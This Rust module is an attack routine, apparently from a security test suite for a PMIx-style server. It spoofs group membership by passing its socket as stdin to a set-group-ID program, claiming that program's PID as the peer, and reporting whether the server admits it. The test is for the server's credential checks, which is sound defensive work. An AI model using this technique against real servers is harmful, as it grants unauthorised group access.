//! Membership of a group claimed by means of a program with the rights of that group. The attacker
//! passes its socket as standard input to a program with the set-group-ID bit. It claims to the
//! server that this program is the peer.
use super::{own_user, tool};
use crate::raw_client::encoded;
use anyhow::{Context, Result};
use peal_model::{Info, Value, key};
use peal_wire::ClaimedUser;
use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    os::fd::OwnedFd,
    process::{Command, Stdio},
    time::Duration,
};

/// Claims to be in a group by means of a program that runs as that group. Prints the server's
/// decision about the tool.
pub fn attack(server: SocketAddr, program: &str, group: u32) -> Result<()> {
    let mut stream = TcpStream::connect(server).context("connecting")?;
    let input = OwnedFd::from(stream.try_clone()?);
    let mut child = Command::new(program)
        .arg("1000")
        .stdin(input)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let said = says_who(&mut stream, child.id(), group);
    child.kill()?;
    child.wait()?;
    println!("{}", said?);
    Ok(())
}

fn says_who(stream: &mut TcpStream, pid: u32, group: u32) -> Result<&'static str> {
    let mut hello = tool(
        ClaimedUser {
            gid: group,
            ..own_user()
        },
        "borrower",
    );
    hello
        .infos
        .push(Info::new(key::PMIX_PROC_PID, Value::Pid(pid)));
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    stream.write_all(&encoded(&hello))?;
    // The server closes a refused connection without sending a byte.
    Ok(if stream.read(&mut [0; 512]).is_ok_and(|count| count > 0) {
        "admitted"
    } else {
        "refused"
    })
}
